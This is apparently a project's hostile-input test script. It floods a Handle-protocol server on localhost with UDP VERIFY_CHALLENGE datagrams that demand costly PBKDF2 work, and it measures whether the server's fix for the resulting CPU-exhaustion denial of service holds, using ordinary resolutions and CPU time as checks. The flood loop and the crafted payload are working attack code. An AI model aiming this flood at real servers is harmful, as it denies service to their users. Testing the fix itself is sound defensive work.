#!/usr/bin/env python3
"""F6 attack: VERIFY_CHALLENGE over UDP with PBKDF2 answers of the highest cost.

A PBKDF2 secret-key answer names its own cost; 200,000 iterations × 1,024 bits
is ~0.2 s of server CPU, and VERIFY_CHALLENGE needs no prior challenge. Before
the fix 100 such datagrams/s pinned both cores and ordinary resolutions got RC 3.
Now the server computes at most what real clients ask for and checks proofs
under a budget of its own. Sends --rate datagrams/s for --seconds (≤ --count)
from 127.0.0.2 while resolving --probe from 127.0.0.1 every 50 ms, and reports
the server's CPU time (with --pid) and how the ordinary resolutions fared.

    tests/hostile/pbkdf2_flood.py 127.0.0.1:2641 --pid $(pidof handled)
"""
import collections
import os
import socket
import time

import hdl


def verify_challenge(iterations, key_bits):
    answer = b"\x22" + hdl.blob(os.urandom(16)) + hdl.i32(iterations) + hdl.i32(key_bits) + hdl.blob(os.urandom(20))
    return (hdl.blob("TEST/ADMIN") + hdl.i32(300) + hdl.blob(os.urandom(16)) + hdl.blob(os.urandom(32))
            + hdl.blob(answer))


def cpu_seconds(pid):
    if pid is None:
        return None
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except OSError:
        return None


def main():
    args = hdl.arguments(__doc__, seconds=10.0, count=2000,
                         rate=(100, "attack datagrams per second"),
                         iterations=(200000, "PBKDF2 iterations asked for"),
                         key_bits=(1024, "PBKDF2 key bits asked for"))
    hdl.show_rss("before", args.pid)
    cpu_before = cpu_seconds(args.pid)
    attack = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attack.bind(("127.0.0.2", 0))
    attack.setblocking(False)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.settimeout(0.5)
    attack_codes, probe_codes = collections.Counter(), collections.Counter()
    started = time.monotonic()
    sent, probes = 0, 0
    next_probe = started
    while sent < args.count and time.monotonic() - started < args.seconds:
        due = int((time.monotonic() - started) * args.rate) + 1
        while sent < min(due, args.count):
            sent += 1
            unit = hdl.unit(hdl.VERIFY_CHALLENGE, verify_challenge(args.iterations, args.key_bits), sent, flags=hdl.REC)
            attack.sendto(unit, args.addr)
        try:
            while True:
                _, code, _ = hdl.response_code(attack.recv(2048))
                if code is not None:
                    attack_codes[hdl.CODES.get(code, code)] += 1
        except BlockingIOError:
            pass
        if time.monotonic() >= next_probe:
            probes += 1
            probe.sendto(hdl.unit(hdl.RESOLUTION, hdl.resolution(args.probe), 1_000_000 + probes), args.addr)
            try:
                while True:
                    request_id, code, _ = hdl.response_code(probe.recv(2048))
                    if request_id == 1_000_000 + probes:
                        probe_codes[hdl.CODES.get(code, code)] += 1
                        break
            except socket.timeout:
                probe_codes["no answer in 0.5 s"] += 1
            next_probe = time.monotonic() + 0.05
        time.sleep(0.002)
    elapsed = time.monotonic() - started
    print(f"sent {sent} VERIFY_CHALLENGE datagrams ({args.iterations} × {args.key_bits} bits) in {elapsed:.1f} s;"
          f" answers: {dict(attack_codes)}")
    print(f"ordinary UDP resolutions during the attack: {dict(probe_codes)}")
    cpu_after = cpu_seconds(args.pid)
    if cpu_before is not None and cpu_after is not None:
        print(f"server CPU: {cpu_after - cpu_before:.1f} s in {elapsed:.1f} s")
    hdl.show_rss("after", args.pid)
    hdl.finish(args, probe_codes.get("SUCCESS", 0) >= probes // 2, udp=True)


if __name__ == "__main__":
    main()
